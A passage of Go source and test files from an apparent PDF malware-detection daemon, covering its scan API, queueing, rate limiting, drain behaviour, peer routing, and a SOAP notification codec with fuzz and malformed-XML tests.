	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
)

// newTestServer builds a daemon on a private registry (metrics isolation)
// and tears it down with the test.
func newTestServer(t *testing.T, cfg Config) *Server {
	t.Helper()
	if cfg.Pipeline.Obs == nil {
		cfg.Pipeline.Obs = obs.NewRegistry()
	}
	if cfg.Pipeline.Seed == 0 {
		cfg.Pipeline.Seed = 4242
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() { _ = s.Close() })
	return s
}

func postScan(t *testing.T, url string, body []byte, hdr map[string]string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, url+"/v1/scan", bytes.NewReader(body))
	if err != nil {
		t.Fatalf("request: %v", err)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("POST /scan: %v", err)
	}
	data, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil {
		t.Fatalf("read body: %v", err)
	}
	return resp, data
}

// TestScanVerdict drives the full pipeline through POST /scan: a benign
// text document (no Javascript) and a JS-bearing benign document, then the
// degenerate submissions (empty body, oversized body).
func TestScanVerdict(t *testing.T) {
	s := newTestServer(t, Config{Workers: 2, MaxDocBytes: 1 << 20})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	g := corpus.NewGenerator(4242)
	text := g.BenignText(8 << 10)
	resp, body := postScan(t, ts.URL, text.Raw, map[string]string{HeaderDocID: "doc-text"})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("text doc: status %d, body %s", resp.StatusCode, body)
	}
	var sr ScanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if sr.DocID != "doc-text" {
		t.Errorf("doc_id %q, want header value doc-text", sr.DocID)
	}
	if want := instrument.ContentHash(text.Raw); sr.ContentHash != want {
		t.Errorf("content_hash %q != ContentHash %q", sr.ContentHash, want)
	}
	if sr.Malicious || !sr.NoJS {
		t.Errorf("text doc: malicious=%v no_javascript=%v, want benign no-JS", sr.Malicious, sr.NoJS)
	}

	js := g.BenignFormJS()
	resp, body = postScan(t, ts.URL, js.Raw, nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("js doc: status %d, body %s", resp.StatusCode, body)
	}
	sr = ScanResponse{}
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if sr.Malicious {
		t.Errorf("benign form JS flagged malicious: %+v", sr)
	}
	if sr.NoJS {
		t.Error("JS-bearing doc reported no_javascript")
	}
	if len(sr.Features) == 0 {
		t.Error("JS-bearing doc verdict missing the feature vector")
	}
	if sr.DocID == "" || sr.ContentHash == "" {
		t.Error("generated doc_id/content_hash missing")
	}

	// Degenerate submissions.
	resp, _ = postScan(t, ts.URL, nil, nil)
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("empty body: status %d, want 400", resp.StatusCode)
	}
	resp, _ = postScan(t, ts.URL, make([]byte, 2<<20), nil)
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("oversized body: status %d, want 413", resp.StatusCode)
	}
}

// TestMaliciousVerdict: a malicious sample must come back flagged with
// its alert fields populated.
func TestMaliciousVerdict(t *testing.T) {
	s := newTestServer(t, Config{Workers: 1})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	g := corpus.NewGenerator(4242)
	mal := g.Malicious()
	resp, body := postScan(t, ts.URL, mal.Raw, map[string]string{HeaderDocID: mal.ID})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("malicious doc: status %d, body %s", resp.StatusCode, body)
	}
	var sr ScanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if !sr.Malicious {
		t.Fatalf("malicious sample %s not flagged: %+v", mal.ID, sr)
	}
	if sr.AlertReason == "" || sr.Malscore == 0 {
		t.Errorf("alert fields missing: reason=%q malscore=%d", sr.AlertReason, sr.Malscore)
	}
}

// TestQueueSaturation: with one blocked worker and a depth-1 queue, the
// third concurrent submission must be rejected 429 with a Retry-After
// hint, and the admitted two must still complete once the worker unblocks.
func TestQueueSaturation(t *testing.T) {
	reg := obs.NewRegistry()
	s := newTestServer(t, Config{
		Pipeline:   pipeline.Options{Obs: reg, Seed: 4242},
		Workers:    1,
		QueueDepth: 1,
	})
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	s.process = func(ctx context.Context, w *pipeline.Worker, doc pipeline.BatchDoc) (*pipeline.Verdict, error) {
		entered <- struct{}{}
		<-release
		return &pipeline.Verdict{DocID: doc.ID}, nil
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	doc := []byte("%PDF-1.5 saturation probe")
	results := make(chan int, 2)
	for i := 0; i < 2; i++ {
		go func() {
			resp, err := http.Post(ts.URL+"/v1/scan", "application/pdf", bytes.NewReader(doc))
			if err != nil {
				results <- -1
				return
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			results <- resp.StatusCode
		}()
	}
	// Wait until the worker is mid-document, then until the queue holds
	// the second admitted job.
	<-entered
	deadline := time.Now().Add(5 * time.Second)
	for len(s.queue) != 1 {
		if time.Now().After(deadline) {
			t.Fatal("second submission never reached the queue")
		}
		time.Sleep(time.Millisecond)
	}

	resp, body := postScan(t, ts.URL, doc, nil)
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("saturated queue: status %d, want 429 (body %s)", resp.StatusCode, body)
	}
	ra, err := strconv.Atoi(resp.Header.Get("Retry-After"))
	if err != nil || ra < 1 {
		t.Errorf("Retry-After %q, want whole seconds >= 1", resp.Header.Get("Retry-After"))
	}
	var er errorResponse
	if err := json.Unmarshal(body, &er); err != nil || er.Error == "" {
		t.Errorf("429 body %s: want JSON error", body)
	}
	if er.RetryAfterSec != ra {
		t.Errorf("retry_after_sec %d != header %d", er.RetryAfterSec, ra)
	}

	close(release)
	for i := 0; i < 2; i++ {
		if code := <-results; code != http.StatusOK {
			t.Errorf("admitted submission %d finished with status %d, want 200", i, code)
		}
	}

	snap := reg.Snapshot()
	if got := snap.Counters[obs.Series(obs.MetricServeRejected, "reason", "queue")]; got != 1 {
		t.Errorf("queue rejection counter = %d, want 1", got)
	}
	if got := snap.Counters[obs.MetricServeAccepted]; got != 2 {
		t.Errorf("accepted counter = %d, want 2", got)
	}
}

// TestTenantRateLimit: one tenant over its bucket gets 429 ratelimit with
// a retry hint; a different tenant is admitted untouched.
func TestTenantRateLimit(t *testing.T) {
	clk := newFakeClock()
	reg := obs.NewRegistry()
	s := newTestServer(t, Config{
		Pipeline:    pipeline.Options{Obs: reg, Seed: 4242},
		Workers:     1,
		TenantRate:  1,
		TenantBurst: 1,
		Now:         clk.now,
	})
	s.process = func(ctx context.Context, w *pipeline.Worker, doc pipeline.BatchDoc) (*pipeline.Verdict, error) {
		return &pipeline.Verdict{DocID: doc.ID}, nil
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	doc := []byte("%PDF-1.5 tenant probe")
	resp, _ := postScan(t, ts.URL, doc, map[string]string{HeaderTenant: "hot"})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("hot tenant first submission: status %d", resp.StatusCode)
	}
	resp, body := postScan(t, ts.URL, doc, map[string]string{HeaderTenant: "hot"})
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("hot tenant second submission: status %d, want 429 (body %s)", resp.StatusCode, body)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("rate-limit 429 missing Retry-After")
	}
	resp, _ = postScan(t, ts.URL, doc, map[string]string{HeaderTenant: "cold"})
	if resp.StatusCode != http.StatusOK {
		t.Errorf("cold tenant starved by hot tenant: status %d", resp.StatusCode)
	}
	if got := reg.Snapshot().Counters[obs.Series(obs.MetricServeRejected, "reason", "ratelimit")]; got != 1 {
		t.Errorf("ratelimit rejection counter = %d, want 1", got)
	}
}

// TestDrainCompletesInFlight: Shutdown while a document is mid-scan must
// wait for that document's verdict to be written before returning, and
// the submitter must receive its 200.
func TestDrainCompletesInFlight(t *testing.T) {
	s := newTestServer(t, Config{Workers: 1, DrainTimeout: 10 * time.Second})
	entered := make(chan struct{})
	release := make(chan struct{})
	s.process = func(ctx context.Context, w *pipeline.Worker, doc pipeline.BatchDoc) (*pipeline.Verdict, error) {
		close(entered)
		<-release
		return &pipeline.Verdict{DocID: doc.ID}, nil
	}
	if err := s.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}

	status := make(chan int, 1)
	go func() {
		resp, err := http.Post("http://"+s.Addr()+"/v1/scan", "application/pdf", bytes.NewReader([]byte("%PDF-1.5 drain probe")))
		if err != nil {
			status <- -1
			return
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		status <- resp.StatusCode
	}()
	<-entered

	done := make(chan error, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		done <- s.Shutdown(ctx)
	}()
	// Shutdown must be blocked on the in-flight document, not returning
	// early and abandoning it.
	select {
	case err := <-done:
		t.Fatalf("Shutdown returned (%v) while a document was in flight", err)
	case <-time.After(100 * time.Millisecond):
	}

	close(release)
	if err := <-done; err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	if code := <-status; code != http.StatusOK {
		t.Errorf("in-flight submission finished with status %d, want 200", code)
	}
}

// TestDrainingRejects: once draining, new submissions answer 503 and
// /healthz flips to 503 so load balancers rotate the node out.
func TestDrainingRejects(t *testing.T) {
	s := newTestServer(t, Config{Workers: 1})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	s.draining.Store(true)

	resp, body := postScan(t, ts.URL, []byte("%PDF-1.5"), nil)
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("draining scan: status %d, want 503 (body %s)", resp.StatusCode, body)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("draining 503 missing Retry-After")
	}
	hr, err := http.Get(ts.URL + "/v1/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	hb, _ := io.ReadAll(hr.Body)
	_ = hr.Body.Close()
	if hr.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("draining healthz: status %d, want 503 (body %s)", hr.StatusCode, hb)
	}
}

// TestHealthz: a serving daemon answers 200 with its queue shape.
func TestHealthz(t *testing.T) {
	s := newTestServer(t, Config{Workers: 2, QueueDepth: 7})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	resp, err := http.Get(ts.URL + "/v1/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	body, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz status %d, body %s", resp.StatusCode, body)
	}
	var h map[string]any
	if err := json.Unmarshal(body, &h); err != nil {
		t.Fatalf("healthz JSON: %v", err)
	}
	if h["status"] != "ok" || h["queue_cap"] != float64(7) || h["workers"] != float64(2) {
		t.Errorf("healthz body %s: want status ok, queue_cap 7, workers 2", body)
	}
}

// TestDrainFlushesJournal: the forensic journal must hold the flushed
// doc-open and verdict events for every served document after Shutdown —
// even without closing the writer — and the verdict response must carry
// the journal session as its correlation key.
func TestDrainFlushesJournal(t *testing.T) {
	path := filepath.Join(t.TempDir(), "events.jsonl")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	jw := journal.NewWriter(f, journal.Options{Session: "serve-test"})

	s := newTestServer(t, Config{
		Pipeline: pipeline.Options{Seed: 4242, Obs: obs.NewRegistry(), Journal: jw},
		Workers:  1,
	})
	if err := s.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}

	g := corpus.NewGenerator(4242)
	doc := g.BenignFormJS()
	resp, body := postScan(t, "http://"+s.Addr(), doc.Raw, map[string]string{HeaderDocID: "journaled-doc"})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("scan: status %d, body %s", resp.StatusCode, body)
	}
	var sr ScanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if sr.JournalSession != "serve-test" {
		t.Errorf("journal_session %q, want serve-test", sr.JournalSession)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}

	events, err := journal.ReadFile(path)
	if err != nil {
		t.Fatalf("reading flushed journal: %v", err)
	}
	var open, verdict bool
	for _, e := range events {
		if e.DocID != "journaled-doc" {
			continue
		}
		switch e.T {
		case journal.TypeDocOpen:
			open = true
		case journal.TypeVerdict:
			verdict = true
		}
	}
	if !open || !verdict {
		t.Errorf("flushed journal missing events for journaled-doc: open=%v verdict=%v (%d events)", open, verdict, len(events))
	}
}

// TestNoGoroutineLeak: a full serve-and-drain cycle must release its
// worker lanes and listener goroutines.
func TestNoGoroutineLeak(t *testing.T) {
	before := runtime.NumGoroutine()

	s := newTestServer(t, Config{Workers: 4})
	if err := s.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	g := corpus.NewGenerator(4242)
	for i := 0; i < 3; i++ {
		resp, _ := postScan(t, "http://"+s.Addr(), g.BenignText(4<<10).Raw, nil)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("scan %d: status %d", i, resp.StatusCode)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	http.DefaultClient.CloseIdleConnections()

	deadline := time.Now().Add(5 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= before+3 {
			return // allow a little slack for runtime bookkeeping
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines: %d before, %d after close", before, runtime.NumGoroutine())
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestProxyRouting: in a two-peer deployment, a document owned by the
// other peer is proxied there (verdict stamped with the serving node,
// owner's accepted counter moves), while an already-routed submission is
// always served locally — the loop-prevention rule.
func TestProxyRouting(t *testing.T) {
	regB := obs.NewRegistry()
	b := newTestServer(t, Config{Pipeline: pipeline.Options{Obs: regB, Seed: 4242}, Workers: 1})
	b.process = func(ctx context.Context, w *pipeline.Worker, doc pipeline.BatchDoc) (*pipeline.Verdict, error) {
		return &pipeline.Verdict{DocID: doc.ID}, nil
	}
	if err := b.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("start peer B: %v", err)
	}
	addrB := b.Addr()

	regA := obs.NewRegistry()
	a := newTestServer(t, Config{
		Pipeline: pipeline.Options{Obs: regA, Seed: 4242},
		Workers:  1,
		Peers:    []string{"nodeA", addrB},
		Self:     "nodeA",
	})
	a.process = func(ctx context.Context, w *pipeline.Worker, doc pipeline.BatchDoc) (*pipeline.Verdict, error) {
		return &pipeline.Verdict{DocID: doc.ID}, nil
	}
	ts := httptest.NewServer(a.Handler())
	defer ts.Close()

	// Find a payload whose content hash lands on B's arc.
	ring := NewRing([]string{"nodeA", addrB}, 0)
	var owned []byte
	for i := 0; i < 10000; i++ {
		p := []byte(fmt.Sprintf("%%PDF-1.5 routing probe %d", i))
		if ring.Owner(instrument.ContentHash(p)) == addrB {
			owned = p
			break
		}
	}
	if owned == nil {
		t.Fatal("no probe payload hashed onto peer B")
	}

	resp, body := postScan(t, ts.URL, owned, map[string]string{HeaderDocID: "routed-doc"})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("proxied scan: status %d, body %s", resp.StatusCode, body)
	}
	var sr ScanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if sr.Node != addrB {
		t.Errorf("verdict node %q, want owner %q", sr.Node, addrB)
	}
	if got := regB.Snapshot().Counters[obs.MetricServeAccepted]; got != 1 {
		t.Errorf("owner accepted counter = %d, want 1", got)
	}
	if got := regA.Snapshot().Counters[obs.MetricServeProxied]; got != 1 {
		t.Errorf("router proxied counter = %d, want 1", got)
	}

	// Same B-owned payload with the routed marker: A must serve locally.
	resp, body = postScan(t, ts.URL, owned, map[string]string{HeaderRouted: addrB})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("routed-marker scan: status %d, body %s", resp.StatusCode, body)
	}
	sr = ScanResponse{}
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if sr.Node != "" {
		t.Errorf("routed submission was proxied again (node %q): bounce loop", sr.Node)
	}
	if got := regA.Snapshot().Counters[obs.MetricServeProxied]; got != 1 {
		t.Errorf("router proxied counter moved to %d on a routed submission", got)
	}
}

// TestDeprecatedUnversionedAlias pins the one-release compatibility
// window: the pre-versioning paths answer 308 with a Deprecation header
// and a /v1 Location, and a client that follows the redirect (Go's
// default for 308, re-sending the body) still gets its verdict.
func TestDeprecatedUnversionedAlias(t *testing.T) {
	s := newTestServer(t, Config{Workers: 1})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	noFollow := &http.Client{
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
	doc := corpus.NewGenerator(7).BenignText(4 << 10).Raw
	for _, tc := range []struct{ method, path, want string }{
		{http.MethodPost, "/scan", "/v1/scan"},
		{http.MethodGet, "/healthz", "/v1/healthz"},
		{http.MethodGet, "/metrics", "/v1/metrics"},
	} {
		req, err := http.NewRequest(tc.method, ts.URL+tc.path, bytes.NewReader(doc))
		if err != nil {
			t.Fatalf("%s %s: %v", tc.method, tc.path, err)
		}
		resp, err := noFollow.Do(req)
		if err != nil {
			t.Fatalf("%s %s: %v", tc.method, tc.path, err)
		}
		_ = resp.Body.Close()
		if resp.StatusCode != http.StatusPermanentRedirect {
			t.Errorf("%s %s: status %d, want 308", tc.method, tc.path, resp.StatusCode)
		}
		if loc := resp.Header.Get("Location"); loc != tc.want {
			t.Errorf("%s %s: Location %q, want %q", tc.method, tc.path, loc, tc.want)
		}
		if resp.Header.Get("Deprecation") == "" {
			t.Errorf("%s %s: missing Deprecation header", tc.method, tc.path)
		}
	}

	// A default client follows the 308 (re-POSTing the body) end to end.
	resp, err := http.Post(ts.URL+"/scan", "application/pdf", bytes.NewReader(doc))
	if err != nil {
		t.Fatalf("POST /scan via alias: %v", err)
	}
	body, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("alias follow-through: status %d, body %s", resp.StatusCode, body)
	}
	var sr ScanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if sr.Malicious {
		t.Errorf("benign text doc convicted via alias: %+v", sr)
	}
}

// TestScanResponseDepth pins the depth-aware response surface: a daemon
// running at deep depth reports depth=deep and the explored path count
// for an evasive document, and convicts it.
func TestScanResponseDepth(t *testing.T) {
	cfg := Config{Workers: 1}
	cfg.Pipeline.Depth = pipeline.DepthDeep
	cfg.Pipeline.Seed = 4242
	s := newTestServer(t, cfg)
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	sample, ok := corpus.NewGenerator(99).Evasive("mal-timebomb")
	if !ok {
		t.Fatal("evasive family missing")
	}
	resp, body := postScan(t, ts.URL, sample.Raw, nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("deep scan: status %d, body %s", resp.StatusCode, body)
	}
	var sr ScanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatalf("verdict JSON: %v", err)
	}
	if sr.Depth != string(pipeline.DepthDeep) {
		t.Errorf("depth %q, want %q", sr.Depth, pipeline.DepthDeep)
	}
	if !sr.Malicious {
		t.Errorf("time bomb not convicted at deep depth: %+v", sr)
	}
	if sr.DeepScanPaths < 2 {
		t.Errorf("deepscan_paths = %d, want >= 2", sr.DeepScanPaths)
	}
}
