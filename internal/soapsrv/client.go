package soapsrv

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"time"
)

// Client posts context notifications to a detector's SOAP endpoint. It is
// the Go side of the SOAP.request call made by context monitoring code.
type Client struct {
	// Endpoint is the detector URL (Server.URL()).
	Endpoint string
	// HTTPClient overrides the default client (tests).
	HTTPClient *http.Client
}

// NewClient returns a client for the given endpoint.
func NewClient(endpoint string) *Client {
	return &Client{Endpoint: endpoint}
}

func (c *Client) httpClient() *http.Client {
	if c.HTTPClient != nil {
		return c.HTTPClient
	}
	return &http.Client{Timeout: 10 * time.Second}
}

// Send posts a Notify synchronously and returns the ack status.
func (c *Client) Send(n Notify) (string, error) {
	reqBody, err := MarshalNotify(n)
	if err != nil {
		return "", err
	}
	resp, err := c.httpClient().Post(c.Endpoint, "text/xml; charset=utf-8", bytes.NewReader(reqBody))
	if err != nil {
		return "", fmt.Errorf("soap post: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	data, err := io.ReadAll(io.LimitReader(resp.Body, maxRequestBytes))
	if err != nil {
		return "", fmt.Errorf("soap response: %w", err)
	}
	return UnmarshalAck(data)
}

// SendRaw posts arbitrary bytes (used by attack simulations that forge
// messages without going through the codec).
func (c *Client) SendRaw(body []byte) (string, error) {
	resp, err := c.httpClient().Post(c.Endpoint, "text/xml; charset=utf-8", bytes.NewReader(body))
	if err != nil {
		return "", fmt.Errorf("soap post: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	data, err := io.ReadAll(io.LimitReader(resp.Body, maxRequestBytes))
	if err != nil {
		return "", fmt.Errorf("soap response: %w", err)
	}
	return UnmarshalAck(data)
}
