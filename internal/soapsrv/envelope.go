// Package soapsrv implements the tiny SOAP 1.1 service the paper builds
// into its runtime detector ("a tiny SOAP server is built into the detector
// enabling the communication with the context monitoring code
// synchronously"), plus the matching client invoked by the SOAP.request
// Javascript API inside documents.
//
// Only the one operation the system needs is exposed: a context
// notification carrying an event ("enter" or "exit"), the protection key
// ("DetectorID:InstrumentationKey"), and an opaque document tag.
package soapsrv

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
)

// Event kinds carried in context notifications.
const (
	EventEnter = "enter"
	EventExit  = "exit"
)

// ErrEnvelope is wrapped by all envelope codec errors.
var ErrEnvelope = errors.New("soap envelope error")

// Notify is the single SOAP operation: a Javascript context transition.
type Notify struct {
	// Event is EventEnter or EventExit.
	Event string
	// Key is "DetectorID:InstrumentationKey".
	Key string
	// Seq is a per-document sequence number assigned by the context
	// monitoring code, letting the detector pair enters with exits.
	Seq int
	// PID identifies the reader process hosting the Javascript engine, so
	// a detector serving several concurrent readers can attribute the
	// context transition to the right process. Zero means "unspecified"
	// (legacy senders); the detector then assumes a single reader.
	PID int
}

type envelope struct {
	XMLName xml.Name `xml:"http://schemas.xmlsoap.org/soap/envelope/ Envelope"`
	Body    body     `xml:"http://schemas.xmlsoap.org/soap/envelope/ Body"`
}

type body struct {
	Notify *notifyXML `xml:"urn:pdfshield:ctx Notify,omitempty"`
	Ack    *ackXML    `xml:"urn:pdfshield:ctx Ack,omitempty"`
	Fault  *faultXML  `xml:"http://schemas.xmlsoap.org/soap/envelope/ Fault,omitempty"`
}

type notifyXML struct {
	Event string `xml:"urn:pdfshield:ctx Event"`
	Key   string `xml:"urn:pdfshield:ctx Key"`
	Seq   int    `xml:"urn:pdfshield:ctx Seq"`
	PID   int    `xml:"urn:pdfshield:ctx PID,omitempty"`
}

type ackXML struct {
	Status string `xml:"urn:pdfshield:ctx Status"`
}

type faultXML struct {
	Code   string `xml:"faultcode"`
	String string `xml:"faultstring"`
}

// MarshalNotify renders a Notify as a SOAP request body.
func MarshalNotify(n Notify) ([]byte, error) {
	env := envelope{Body: body{Notify: &notifyXML{Event: n.Event, Key: n.Key, Seq: n.Seq, PID: n.PID}}}
	return marshalEnvelope(env)
}

// MarshalAck renders an acknowledgement response.
func MarshalAck(status string) ([]byte, error) {
	env := envelope{Body: body{Ack: &ackXML{Status: status}}}
	return marshalEnvelope(env)
}

// MarshalFault renders a SOAP fault.
func MarshalFault(code, msg string) ([]byte, error) {
	env := envelope{Body: body{Fault: &faultXML{Code: code, String: msg}}}
	return marshalEnvelope(env)
}

func marshalEnvelope(env envelope) ([]byte, error) {
	var buf bytes.Buffer
	buf.WriteString(xml.Header)
	enc := xml.NewEncoder(&buf)
	if err := enc.Encode(env); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrEnvelope, err)
	}
	if err := enc.Flush(); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrEnvelope, err)
	}
	return buf.Bytes(), nil
}

// UnmarshalNotify parses a SOAP request body into a Notify.
func UnmarshalNotify(data []byte) (Notify, error) {
	var env envelope
	if err := xml.Unmarshal(data, &env); err != nil {
		return Notify{}, fmt.Errorf("%w: %v", ErrEnvelope, err)
	}
	if env.Body.Notify == nil {
		return Notify{}, fmt.Errorf("%w: missing Notify element", ErrEnvelope)
	}
	n := env.Body.Notify
	if n.Event != EventEnter && n.Event != EventExit {
		return Notify{}, fmt.Errorf("%w: invalid event %q", ErrEnvelope, n.Event)
	}
	return Notify{Event: n.Event, Key: n.Key, Seq: n.Seq, PID: n.PID}, nil
}

// UnmarshalAck parses a response, returning the ack status or the fault as
// an error.
func UnmarshalAck(data []byte) (string, error) {
	var env envelope
	if err := xml.Unmarshal(data, &env); err != nil {
		return "", fmt.Errorf("%w: %v", ErrEnvelope, err)
	}
	if env.Body.Fault != nil {
		return "", fmt.Errorf("%w: fault %s: %s", ErrEnvelope, env.Body.Fault.Code, env.Body.Fault.String)
	}
	if env.Body.Ack == nil {
		return "", fmt.Errorf("%w: missing Ack element", ErrEnvelope)
	}
	return env.Body.Ack.Status, nil
}
