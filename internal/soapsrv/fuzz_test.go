package soapsrv

import (
	"testing"
)

// FuzzEnvelope feeds arbitrary bytes to both envelope decoders. The SOAP
// endpoint is reachable by any script running inside a document (SOAP.request
// is a documented Javascript API), so the decoder must reject garbage with a
// clean error. Successfully decoded notifications must survive a marshal
// round trip unchanged.
func FuzzEnvelope(f *testing.F) {
	valid, err := MarshalNotify(Notify{Event: EventEnter, Key: "det:ik", Seq: 1, PID: 42})
	if err != nil {
		f.Fatal(err)
	}
	ack, err := MarshalAck("ok")
	if err != nil {
		f.Fatal(err)
	}
	fault, err := MarshalFault("Client", "bad request")
	if err != nil {
		f.Fatal(err)
	}
	seeds := [][]byte{
		valid,
		ack,
		fault,
		[]byte(`<Envelope><Body></Body></Envelope>`),
		[]byte(`<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Notify xmlns="urn:pdfshield:ctx"><Event>exit</Event><Key>k</Key><Seq>-1</Seq></Notify></soap:Body></soap:Envelope>`),
		[]byte(`<a><b>&lt;</b></a>`),
		[]byte("not xml at all"),
		{},
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<20 {
			return
		}
		n, err := UnmarshalNotify(data)
		if err == nil {
			out, merr := MarshalNotify(n)
			if merr != nil {
				t.Fatalf("re-marshal of accepted notify failed: %v", merr)
			}
			n2, derr := UnmarshalNotify(out)
			if derr != nil {
				t.Fatalf("round trip decode failed: %v", derr)
			}
			if n2 != n {
				t.Fatalf("round trip changed notify: %+v != %+v", n2, n)
			}
		}
		_, _ = UnmarshalAck(data)
	})
}
