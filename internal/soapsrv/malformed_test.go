package soapsrv

import (
	"bytes"
	"errors"
	"net/http"
	"strings"
	"testing"
)

// TestUnmarshalNotifyMalformed drives the envelope decoder with the
// malformed shapes an attacker (or a broken sender) can put on the wire.
// Every case must come back as a clean ErrEnvelope-wrapped error: the codec
// never panics and never accepts a notification it cannot fully validate.
func TestUnmarshalNotifyMalformed(t *testing.T) {
	oversized := `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>enter</Event><Key>` +
		strings.Repeat("k", 900<<10) + // big but under the server's 1 MB cap
		`</Key><Seq>1</Seq></Notify></Body></Envelope>`

	cases := []struct {
		name string
		in   string
	}{
		{"empty", ""},
		{"not xml", "GET / HTTP/1.1\r\n\r\n"},
		{"truncated mid-tag", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>enter</Eve`},
		{"truncated before body close", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body>`},
		{"wrong envelope namespace", `<Envelope xmlns="urn:wrong"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>enter</Event><Key>k</Key><Seq>1</Seq></Notify></Body></Envelope>`},
		{"missing notify", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body></Body></Envelope>`},
		{"wrong action element", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Subscribe xmlns="urn:pdfshield:ctx"><Event>enter</Event></Subscribe></Body></Envelope>`},
		{"invalid event kind", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>sideways</Event><Key>k</Key><Seq>1</Seq></Notify></Body></Envelope>`},
		{"non-numeric seq", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>enter</Event><Key>k</Key><Seq>NaN</Seq></Notify></Body></Envelope>`},
		{"mismatched close tags", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>enter</Key></Event></Notify></Body></Envelope>`},
